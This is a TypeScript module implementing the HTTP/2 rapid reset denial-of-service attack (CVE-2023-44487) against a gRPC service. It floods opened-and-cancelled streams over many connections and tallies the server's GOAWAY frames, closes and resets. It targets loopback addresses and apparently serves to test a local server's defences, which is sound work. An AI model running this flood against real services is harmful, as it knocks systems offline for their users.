import { once } from "node:events";
import { setTimeout as delay, setImmediate as nextTurn } from "node:timers/promises";
import { openRawH2, type RawH2Connection } from "./h2-connection.js";
import {
  dataFrame,
  encodeFrame,
  encodeHeaderBlock,
  envelope,
  FrameFlag,
  FrameType,
  grpcRequestHeaders,
  H2ErrorCode,
  PROMPT_HI_PROTO,
  pingFrame,
  rstStreamFrame,
} from "./h2-frames.js";
import { within } from "./within.js";

/** A PING frame: 9 bytes of header, 8 of payload. */
const PING_BYTES = 17;

/** Options of `rapidReset`. */
export interface RapidResetOptions {
  readonly port: number;
  /** Loopback source addresses, used round-robin by the connections. */
  readonly sourceAddresses: readonly string[];
  readonly connections: number;
  readonly durationMs: number;
  /** Streams (HEADERS + DATA + RST_STREAM each) per socket write; default 20. */
  readonly streamsPerWrite?: number;
}

/** What a rapid reset attack did and what the server answered. */
export interface RapidResetResult {
  /**
   * Streams opened and reset that the server provably read: each batch ends with a PING whose
   * ACK proves the server got that far, and a GOAWAY's last stream id proves as much.
   */
  readonly resetsSent: number;
  /** Streams opened and reset written to sockets, whether the server read them or not. */
  readonly resetsWritten: number;
  readonly connectionsOpened: number;
  readonly connectFailures: number;
  /** GOAWAY frames received, by error code. */
  readonly goAwaysByCode: Record<number, number>;
  /** Connections the server closed (with or without a GOAWAY). */
  readonly closedByServer: number;
  readonly rstStreamsReceived: number;
}

/**
 * CVE-2023-44487 "rapid reset": `connections` connections each send, as fast as their socket
 * drains, batches of streams opened (HEADERS of a gRPC `Prompt`, DATA with a complete envelope)
 * and reset (RST_STREAM CANCEL) in the same write, then a PING to count what the server read;
 * a connection the server ends (GOAWAY or close) is replaced by a new one. Runs for
 * `durationMs`.
 */
export async function rapidReset(options: RapidResetOptions): Promise<RapidResetResult> {
  const perWrite = options.streamsPerWrite ?? 20;
  const block = encodeHeaderBlock(
    grpcRequestHeaders("/switchboard.v1.PromptService/Prompt", `127.0.0.1:${options.port}`),
  );
  // One stream's frames, its stream id patched in per copy.
  const template = Buffer.concat([
    encodeFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, 1, block),
    dataFrame(1, envelope(PROMPT_HI_PROTO)),
    rstStreamFrame(1, H2ErrorCode.CANCEL),
  ]);
  const idOffsets = streamIdOffsets(template);
  const result = {
    resetsSent: 0,
    resetsWritten: 0,
    connectionsOpened: 0,
    connectFailures: 0,
    goAwaysByCode: {} as Record<number, number>,
    closedByServer: 0,
    rstStreamsReceived: 0,
  };
  const deadline = performance.now() + options.durationMs;
  const running = (): boolean => performance.now() < deadline;

  const attackOneConnection = async (connection: RawH2Connection): Promise<void> => {
    const { socket } = connection;
    let ended = false;
    let written = 0;
    let batches = 0;
    /** The server has read every batch up to this one: it acknowledged the PING ending it. */
    let acknowledgedBatches = 0;
    connection.onFrame((frame) => {
      if (frame.type === FrameType.RST_STREAM) result.rstStreamsReceived++;
      if (frame.type === FrameType.GOAWAY) ended = true;
      if (frame.type === FrameType.PING && frame.flags & FrameFlag.ACK) {
        acknowledgedBatches = Math.max(acknowledgedBatches, frame.payload.readUInt32BE(4));
      }
    });
    void connection.closed.then(() => {
      ended = true;
    });
    while (running() && !ended) {
      const batch = Buffer.allocUnsafe(template.length * perWrite + PING_BYTES);
      for (let i = 0; i < perWrite; i++) {
        const streamId = connection.nextStreamId();
        template.copy(batch, i * template.length);
        for (const offset of idOffsets) batch.writeUInt32BE(streamId, i * template.length + offset);
      }
      batches++;
      const ping = Buffer.alloc(8);
      ping.writeUInt32BE(batches, 4);
      pingFrame(ping).copy(batch, template.length * perWrite);
      const drained = socket.write(batch);
      written += perWrite;
      if (drained) await nextTurn();
      else {
        // `once` rejects on "error"; a reset connection is reported through `closed`. A server
        // that stops reading never drains: the attack still ends on time.
        await within(
          Promise.race([once(socket, "drain").catch(() => {}), connection.closed]),
          Math.max(0, deadline - performance.now()),
        );
      }
    }
    if (ended && running()) result.closedByServer++;
    socket.destroy();
    await connection.closed;
    result.resetsWritten += written;
    const goAway = connection.goAways[0];
    // Client stream ids are odd: stream n (from 1) has id 2n - 1.
    const provenByGoAway = goAway ? Math.min(written, (goAway.lastStreamId + 1) / 2) : 0;
    result.resetsSent += Math.max(provenByGoAway, acknowledgedBatches * perWrite);
  };

  const attacker = async (index: number): Promise<void> => {
    const localAddress = options.sourceAddresses[index % options.sourceAddresses.length]!;
    while (running()) {
      let connection: RawH2Connection;
      try {
        connection = await openRawH2({
          port: options.port,
          localAddress,
          connectTimeoutMs: Math.max(1, deadline - performance.now()),
        });
      } catch {
        result.connectFailures++;
        // The server refuses or is gone: do not spin on connect.
        await delay(50);
        continue;
      }
      result.connectionsOpened++;
      await attackOneConnection(connection);
      for (const { errorCode } of connection.goAways) {
        result.goAwaysByCode[errorCode] = (result.goAwaysByCode[errorCode] ?? 0) + 1;
      }
    }
  };
  await Promise.all(Array.from({ length: options.connections }, (_, i) => attacker(i)));
  return result;
}

/** Where the stream id sits in each of the template's frames (HEADERS, DATA, RST_STREAM). */
function streamIdOffsets(template: Buffer): number[] {
  const offsets: number[] = [];
  for (let offset = 0; offset < template.length; ) {
    offsets.push(offset + 5);
    offset += 9 + template.readUIntBE(offset, 3);
  }
  return offsets;
}
